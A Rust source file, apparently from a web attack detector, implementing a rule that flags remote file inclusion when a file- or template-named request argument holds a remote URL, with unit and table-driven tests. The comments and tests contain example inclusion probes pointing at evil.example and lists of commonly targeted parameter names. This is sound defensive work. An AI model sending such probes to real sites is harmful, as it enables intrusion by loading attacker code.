//! Whole-request RFI check: a remote URL in an argument whose *name* says
//! the application opens it as a file. Per-value detection cannot see the
//! name (a detector is a pure function of the value, cached by value), and
//! the name is what separates `include($_GET['path'])` from a redirect or a
//! link parameter: `?_CONF[path]=https://evil.example` is an inclusion,
//! `?url=https://evil.example` a link.
//!
//! Rule `rfi.include_param`: an argument of the query string, a form body
//! or a JSON body whose last name word is a file or directory word (`file`,
//! `includefile`, `path`, `*_path`, `dir`, `basedir`, `root`, `include`,
//! `inc`, `require`, `lib`, `load`: 6) or a view word (`page`, `template`,
//! `tpl`, `view`, `layout`, `theme`, `skin`, `lang`, `module`, `doc`,
//! `config`...: 5), holding a remote URL (`http`, `https`, `ftp`, `ftps`)
//! or a UNC path (`\\host\share`) that the value alone does not already
//! flag, and that
//! - points at a public or private host, not an internal one (that is
//!   SSRF's) and not this site (the request's Host, its subdomains, its
//!   parent);
//! - for view words, does not point at the page the browser came from
//!   (the Referer's host): trackers report the embedding page as `page=` /
//!   `tpl=`, and the browser's Referer is that same page;
//! - names a script or text file, a site's root or a base directory (file
//!   words only: `http://evil/x/`, which the application appends its own
//!   path to; under a view word a root is the landing page trackers
//!   report), or ends in an empty `?` (a path of slugs or a real query is
//!   a page address: share widgets, trackers and "link to your document"
//!   fields send those);
//! - does not name a passive resource (an image, a media file, a document,
//!   a font, a style sheet): `file=https://cdn.example/report.pdf` is a
//!   download or viewer link, never code an include runs.

use std::borrow::Cow;

use super::host::{self, Kind};
use super::{urls, Url};
use crate::config::Sensitivity;
use crate::decode;
use crate::detect::{Ctx, Hit};
use crate::parse::params::{Param, Source};
use crate::request::Request;
use crate::verdict::Part;

/// How strongly an argument name says "a file the application opens".
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Named {
    /// A file or directory: the value is read or included as a path.
    File,
    /// A view, template or page selector: PHP apps include it, but page
    /// trackers use the same words for the page they report.
    View,
}

/// Judges the request's arguments.
pub(crate) fn check_request(req: &Request<'_>, params: &[Param<'_>]) -> Option<Hit> {
    let mut best: Option<Hit> = None;
    let mut site: Option<Site<'_>> = None;
    for p in params {
        // A JSON key's value counts only when it is a string.
        if p.source == Source::Json && !p.string {
            continue;
        }
        let Some(named) = include_name(p.name) else {
            continue;
        };
        let value = match p.source {
            Source::Query | Source::Form => decode::form(p.value),
            Source::Json => json_unescape(p.value),
        };
        // Every include judged names a scheme or a UNC path: the others
        // need no Site.
        let v = value.trim_ascii();
        if memchr::memchr(b':', v).is_none() && !v.starts_with(b"\\\\") {
            continue;
        }
        let site = site.get_or_insert_with(|| Site::of(req));
        if let Some(h) = judge(named, &value, site) {
            if best.as_ref().is_none_or(|b| h.score > b.score) {
                best = Some(h);
            }
        }
    }
    best
}

/// The hosts a URL may name without leaving the site: the request's Host
/// and the Referer's host.
struct Site<'r> {
    host: &'r [u8],
    referer: &'r [u8],
}

impl<'r> Site<'r> {
    fn of(req: &Request<'r>) -> Site<'r> {
        let host = req
            .header(b"host")
            .map_or(&b""[..], |h| strip_port(h.trim_ascii()));
        let referer = req
            .header(b"referer")
            .and_then(|r| urls(r.trim_ascii()).next().map(|u| u.host))
            .unwrap_or(b"");
        Site { host, referer }
    }

    /// `host` is this site, or (for view words, which trackers use) the
    /// page the browser came from. File words get no Referer pass: no
    /// tracker names its page `path=`, and a Referer is the client's to
    /// choose.
    fn owns(&self, host: &[u8], named: Named) -> bool {
        same_site(host, self.host) || named == Named::View && same_site(host, self.referer)
    }
}

/// Judges one include-like argument's value, as the application reads it.
fn judge(named: Named, value: &[u8], site: &Site<'_>) -> Option<Hit> {
    let value = value.trim_ascii();
    let score = match named {
        Named::File => 6,
        Named::View => 5,
    };
    let hit = Hit {
        rule: "rfi.include_param",
        score,
        span: 0..0,
    };
    // What the value shows alone is reported where it lies, with its
    // decoders: this rule adds only what needs the name.
    let ctx = Ctx {
        part: Part::Query,
        key: false,
        sensitivity: Sensitivity::Default,
    };
    if super::rfi(value, &ctx).is_some_and(|h| h.score >= 5) {
        return None;
    }
    if let Some(rest) = value.strip_prefix(b"\\\\") {
        // `\\host\share\x`: Windows opens it over SMB, past
        // `allow_url_include`.
        let end = rest
            .iter()
            .position(|&b| matches!(b, b'\\' | b'/'))
            .unwrap_or(rest.len());
        let name = &rest[..end];
        let h = host::classify(name);
        // A single-label name (`\\fs01\share`) is an intranet file server.
        let reachable = match h.kind {
            Kind::Name => name.contains(&b'.'),
            k => matches!(k, Kind::PublicIp | Kind::Private | Kind::Reserved),
        };
        let path = &rest[end..];
        return (end > 0 && reachable && !site.owns(&rest[..end], named) && !passive(path))
            .then_some(hit);
    }
    let u: Url<'_> = urls(value).next()?;
    if u.span.start != 0 || u.host.is_empty() {
        return None;
    }
    let remote = u.is(b"http") || u.is(b"https") || u.is(b"ftp") || u.is(b"ftps");
    if !remote {
        return None;
    }
    let h = host::classify(u.host);
    let reachable = matches!(
        h.kind,
        Kind::Name | Kind::PublicIp | Kind::Private | Kind::Reserved | Kind::Rebinding
    );
    if !reachable || site.owns(u.host, named) || passive(u.path()) {
        return None;
    }
    // A page address (a path of slugs, a real query: what share widgets,
    // trackers and "link to your document" fields send) is a link. An
    // include probe names a site's root, a script or text file, a base
    // directory the application appends its own path to (file words only:
    // permalinks end in `/` too), or cuts off the suffix the application
    // appends with an empty `?`.
    let query = u.query();
    let path = u.path();
    // A site's root under a view word is the landing page trackers report
    // (`page=https://shop.example/`), with or without a Referer to match.
    let root = named == Named::File && matches!(path, b"" | b"/" | b"\\");
    let dir = named == Named::File && matches!(path.last(), Some(b'/' | b'\\'));
    let cut = query.is_some_and(|q| q.iter().all(|&b| b == b'?'));
    if query.is_some() && !cut || !(root || dir || cut || super::rfi::code_path(path)) {
        return None;
    }
    Some(hit)
}

/// The last word of an argument name, as an include-like word. Words end
/// at anything but a letter and at a lower-to-upper case change
/// (`mosConfig_absolute_path`, `filePath`, `_CONF[path]`, `DOCUMENT_ROOT`,
/// `page2`): the last word is what the value is.
fn include_name(name: &[u8]) -> Option<Named> {
    if !name.iter().any(u8::is_ascii_alphabetic) {
        return None;
    }
    let name: Cow<'_, [u8]> = if memchr::memchr2(b'%', b'+', name).is_some() {
        decode::form(name)
    } else {
        Cow::Borrowed(name)
    };
    let w = last_word(&name);
    if w.len() < 3 || w.len() > 16 {
        return None;
    }
    let mut buf = [0u8; 16];
    let lw = &mut buf[..w.len()];
    lw.copy_from_slice(w);
    lw.make_ascii_lowercase();
    let lw: &[u8] = lw;
    // Compounds: `basepath`, `includepath`, `basedir`, `libdir`, `docroot`,
    // `includefile` (but `redir` is a redirect, `profile` a page, `nadir`
    // and `defile` words).
    let compound = (lw.len() > 4 && lw.ends_with(b"path"))
        || (lw.len() > 3 && lw.ends_with(b"dir") && lw != b"redir" && lw != b"nadir")
        || (lw.len() > 4 && lw.ends_with(b"root"))
        || (lw.len() > 4 && lw.ends_with(b"file") && lw != b"profile" && lw != b"defile");
    // A `match`, not a list search: this runs on every argument's name.
    let named = match lw {
        b"file" | b"filename" | b"filepath" | b"path" | b"pathname" | b"dir" | b"dirname"
        | b"directory" | b"folder" | b"root" | b"include" | b"includes" | b"inc" | b"require"
        | b"lib" | b"load" => Named::File,
        _ if compound => Named::File,
        b"page" | b"template" | b"tpl" | b"view" | b"layout" | b"theme" | b"skin" | b"lang"
        | b"language" | b"module" | b"mod" | b"doc" | b"document" | b"conf" | b"config"
        | b"cfg" | b"plugin" => Named::View,
        _ => return None,
    };
    // `url_template`, `link_path`, `callback_file`: a name that also says
    // URL or link is a link, or a template of one.
    let link = [
        &b"url"[..],
        b"uri",
        b"link",
        b"href",
        b"callback",
        b"webhook",
    ]
    .iter()
    .any(|link| {
        name.windows(link.len())
            .any(|x| x.eq_ignore_ascii_case(link))
    });
    (!link).then_some(named)
}

fn last_word(name: &[u8]) -> &[u8] {
    let mut end = name.len();
    while end > 0 && !name[end - 1].is_ascii_alphabetic() {
        end -= 1;
    }
    let mut start = end;
    while start > 0 && name[start - 1].is_ascii_alphabetic() {
        // `filePath`: `P` after `e` starts a word.
        if name[start - 1].is_ascii_uppercase()
            && start >= 2
            && name[start - 2].is_ascii_lowercase()
        {
            start -= 1;
            break;
        }
        start -= 1;
    }
    &name[start..end]
}

/// A path whose last segment is a passive resource: served, never run.
fn passive(path: &[u8]) -> bool {
    let last = path
        .rsplit(|&b| b == b'/' || b == b'\\')
        .next()
        .unwrap_or(path);
    let Some(dot) = last.iter().rposition(|&b| b == b'.') else {
        return false;
    };
    let ext = &last[dot + 1..];
    const PASSIVE: &[&[u8]] = &[
        b"png", b"jpg", b"jpeg", b"gif", b"webp", b"svg", b"ico", b"bmp", b"avif", b"tif", b"tiff",
        b"mp3", b"mp4", b"m4a", b"webm", b"ogg", b"wav", b"mov", b"m3u8", b"pdf", b"doc", b"docx",
        b"xls", b"xlsx", b"ppt", b"pptx", b"odt", b"csv", b"woff", b"woff2", b"ttf", b"otf",
        b"eot", b"css", b"js", b"map", b"json", b"zip",
    ];
    PASSIVE.iter().any(|p| ext.eq_ignore_ascii_case(p))
}

/// `a` and `b` name the same site: equal, or one a subdomain of the other
/// (`www.` and ports apart). An empty side matches nothing.
fn same_site(a: &[u8], b: &[u8]) -> bool {
    let norm = |h: &[u8]| -> Option<([u8; 256], usize)> {
        let h = strip_port(h);
        let h = if h.len() > 4 && h[..4].eq_ignore_ascii_case(b"www.") {
            &h[4..]
        } else {
            h
        };
        let h = h.strip_suffix(b".").unwrap_or(h);
        if h.is_empty() || h.len() > 256 {
            return None;
        }
        let mut buf = [0u8; 256];
        buf[..h.len()].copy_from_slice(h);
        buf[..h.len()].make_ascii_lowercase();
        Some((buf, h.len()))
    };
    let (Some((ab, an)), Some((bb, bn))) = (norm(a), norm(b)) else {
        return false;
    };
    let (a, b) = (&ab[..an], &bb[..bn]);
    let sub = |s: &[u8], p: &[u8]| {
        s.len() > p.len() && s.ends_with(p) && s[s.len() - p.len() - 1] == b'.'
    };
    a == b || sub(a, b) || sub(b, a)
}

fn strip_port(h: &[u8]) -> &[u8] {
    if h.first() == Some(&b'[') {
        return match memchr::memchr(b']', h) {
            Some(e) => &h[..=e],
            None => h,
        };
    }
    match memchr::memrchr(b':', h) {
        Some(c)
            if h[c + 1..].iter().all(u8::is_ascii_digit)
                && memchr::memchr(b':', &h[..c]).is_none() =>
        {
            &h[..c]
        }
        _ => h,
    }
}

/// A JSON string's text unescaped for `\/`, `\\` and `\"` (JSON writers
/// escape slashes).
fn json_unescape(s: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'\\', s).is_none() {
        return Cow::Borrowed(s);
    }
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'\\' && matches!(s.get(i + 1), Some(b'/' | b'\\' | b'"')) {
            out.push(s[i + 1]);
            i += 2;
        } else {
            out.push(s[i]);
            i += 1;
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn name_words() {
        let n = |s: &str| include_name(s.as_bytes());
        for s in [
            "file",
            "_CONF[path]",
            "mosConfig_absolute_path",
            "phpbb_root_path",
            "DOCUMENT_ROOT",
            "_SERVER[DOCUMENT_ROOT]",
            "filePath",
            "base_dir",
            "basedir",
            "includedir",
            "include",
            "inc",
            "cfg%5Binclude_path%5D",
            "file1",
            "includefile",
            "tplFile",
            "CONFIG[root_dir]",
            "pathtoroot",
        ] {
            assert_eq!(n(s), Some(Named::File), "{s}");
        }
        for s in ["page", "tpl", "template", "lang", "theme", "doc", "page2"] {
            assert_eq!(n(s), Some(Named::View), "{s}");
        }
        for s in [
            "url",
            "redir",
            "redirect_uri",
            "profile",
            "image_url",
            "pathTAG",
            "download",
            "staticpage",
            "file_url",
            "src",
            "callback",
            "url_template",
            "link_path",
            "",
            "123",
        ] {
            assert_eq!(n(s), None, "{s}");
        }
    }

    #[test]
    fn sites() {
        assert!(same_site(b"www.shop.example", b"shop.example:443"));
        assert!(same_site(b"cdn.shop.example", b"shop.example"));
        assert!(same_site(b"Shop.Example.", b"shop.example"));
        assert!(!same_site(b"shop.example.evil.example", b"shop.example"));
        assert!(!same_site(b"evil.example", b""));
        assert!(!same_site(b"", b""));
    }

    fn check(r: &Request<'_>) -> Option<Hit> {
        check_request(r, &crate::parse::params::of(r, None))
    }

    #[test]
    fn big_requests_are_linear() {
        let q = "path=http://evil.example/x/&".repeat(50_000);
        let uri = format!("/a?{q}");
        let r = Request::builder()
            .uri(&uri)
            .header("Host", "shop.example")
            .build();
        assert!(check(&r).is_some());
        let body = format!(
            "[{}]",
            r#"{"file": "http:\/\/a.example\/b", "x": "\\"},"#.repeat(40_000)
        );
        let r = Request::builder()
            .method("POST")
            .header("Content-Type", "application/json")
            .body(&body)
            .build();
        let _ = check(&r);
        let quotes = format!("[{}", "\"".repeat(1 << 20));
        let r = Request::builder().method("POST").body(&quotes).build();
        let _ = check(&r);
        let long = format!("/a?file=http://{}", "a".repeat(1 << 20));
        let r = Request::builder().uri(&long).build();
        let _ = check(&r);
    }

    #[test]
    fn json_values_unescaped() {
        assert_eq!(
            json_unescape(br#"http:\/\/evil.example\/a\"b\\c\n"#),
            &br#"http://evil.example/a"b\c\n"#[..]
        );
        assert!(matches!(json_unescape(b"plain"), Cow::Borrowed(_)));
        assert_eq!(json_unescape(b"end\\"), &b"end\\"[..]);
    }
}

#[cfg(test)]
mod table {
    use crate::request::Request;
    use crate::verdict::AttackClass;
    use crate::{Config, Engine};

    #[test]
    fn requests() {
        let table = include_str!("../../../testdata/url/rfi_requests.txt");
        let engine = Engine::new(Config::default()).unwrap();
        let mut failures = Vec::new();
        for (n, line) in table.lines().enumerate() {
            if line.trim().is_empty() || line.starts_with('#') {
                continue;
            }
            let mut fields = line.split(" | ");
            let verdict = fields.next().unwrap();
            let uri = fields.next().unwrap();
            let mut b = Request::builder().uri(uri);
            let mut host = "shop.example";
            for f in fields {
                let (k, v) = f.split_once(' ').unwrap();
                b = match k {
                    "referer" => b.header("Referer", v),
                    "host" => {
                        host = v;
                        b
                    }
                    "form" => b
                        .method("POST")
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .body(v),
                    "json" => b
                        .method("POST")
                        .header("Content-Type", "application/json")
                        .body(v),
                    _ => panic!("line {}: unknown field {k}", n + 1),
                };
            }
            let r = b.header("Host", host).build();
            // The whole engine: what a value shows alone is the per-value
            // rules' (this rule then stays silent), the rest is this rule's.
            let score = engine
                .analyze(&r)
                .findings
                .iter()
                .filter(|f| f.class == AttackClass::Rfi)
                .map(|f| f.score)
                .max()
                .unwrap_or(0);
            let ok = match verdict {
                "attack" => score >= 5,
                "benign" => score < 5,
                _ => panic!("line {}: verdict {verdict}", n + 1),
            };
            if !ok {
                failures.push(format!("line {}: {line} -> {score}", n + 1));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }
}
